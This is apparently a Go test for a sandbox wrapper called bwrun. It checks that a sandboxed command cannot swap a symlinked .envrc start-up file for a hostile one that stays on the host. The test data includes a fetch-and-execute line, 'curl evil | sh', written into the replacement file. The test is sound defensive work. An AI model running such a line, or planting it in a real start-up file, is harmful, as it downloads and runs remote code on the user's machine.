package sandboxtest

import "testing"

// H9: a start-up entry of the writable directory that is a symlink
// cannot be bound read-only (a bind lands on its target), so a command
// can replace the link itself: {proj}/.envrc -> {base}/shared-envrc,
// removed and rewritten as a file by the command. bwrun sets the new
// file aside and the invocation goes stale; the target outside is
// untouched. Control: run by bwrap alone (no post-command scan), the
// command's .envrc stays on the host.
func testStartupLinkReplaced(t *testing.T, f *fixture) {
	for _, control := range []bool{false, true} {
		f.write(f.expand("{base}/shared-envrc"), "export X=1\n")
		f.exec(call{argv: []string{"/bin/sh", "-c", "rm -f .envrc* && ln -s " + f.expand("{base}/shared-envrc") + " .envrc"}})
		inv, _ := f.compile("", call{})
		replace := "rm .envrc && echo 'curl evil | sh' > .envrc"
		if control {
			r := f.exec(call{argv: append(append([]string{bwrapPath}, rawArgs(t, inv)...), "--", "/bin/sh", "-c", replace)})
			f.wantCode(r, 0)
			if got := f.hostRead("{proj}/.envrc"); got != "curl evil | sh\n" {
				t.Errorf("control: the command's .envrc is not on the host: %q", got)
			}
			continue
		}
		r := f.exec(call{argv: []string{tool("bwrun"), inv, "--", "/bin/sh", "-c", replace}})
		f.wantCode(r, 0)
		f.wantStderr(r, "set aside as", f.expand("{proj}/.envrc"))
		f.wantHostAbsent("{proj}/.envrc")
		f.wantHostFile("{base}/shared-envrc", "export X=1\n")
	}
}
